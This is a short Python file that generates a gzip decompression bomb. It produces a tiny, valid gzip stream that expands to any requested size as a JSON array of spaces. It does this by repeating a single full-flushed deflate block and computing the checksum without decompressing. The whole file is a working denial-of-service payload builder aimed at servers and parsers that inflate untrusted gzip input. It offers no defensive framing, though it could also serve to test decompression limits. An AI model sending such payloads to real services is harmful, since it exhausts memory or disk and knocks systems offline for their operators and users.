"""gzip_bomb.py: a small gzip stream that unpacks to as many bytes as asked, made without unpacking it."""
import struct
import zlib

BLOCK = b" " * (1024 * 1024)
HEADER = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"


def make_bomb(size):
    """A valid JSON array: a bracket, `size` - 2 spaces, a bracket."""
    # After a full flush the compressor forgets what came before, so one block can be repeated.
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = packer.compress(b"[") + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(BLOCK) + packer.flush(zlib.Z_FULL_FLUSH)
    blocks, rest = divmod(max(size - 2, 0), len(BLOCK))
    end = packer.compress(BLOCK[:rest] + b"]") + packer.flush(zlib.Z_FINISH)
    checksum = zlib.crc32(b"[")
    for _ in range(blocks):
        checksum = zlib.crc32(BLOCK, checksum)
    checksum = zlib.crc32(BLOCK[:rest] + b"]", checksum)
    length = 2 + blocks * len(BLOCK) + rest
    return b"".join((HEADER, start, block * blocks, end, struct.pack("<II", checksum, length & 0xFFFFFFFF)))
